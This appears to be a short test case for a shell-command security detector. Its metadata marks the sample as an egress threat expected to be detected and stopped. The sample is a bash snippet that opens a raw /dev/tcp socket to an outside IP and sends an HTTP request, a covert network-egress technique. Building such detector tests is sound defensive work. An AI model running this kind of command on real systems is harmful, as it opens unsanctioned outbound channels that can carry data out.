# expect: detected
# threat: 24 egress
# at: either
# family: egress
# severity: medium
# decision: stopped

exec 5<>/dev/tcp/203.0.113.80/80
echo "GET / HTTP/1.0" >&5
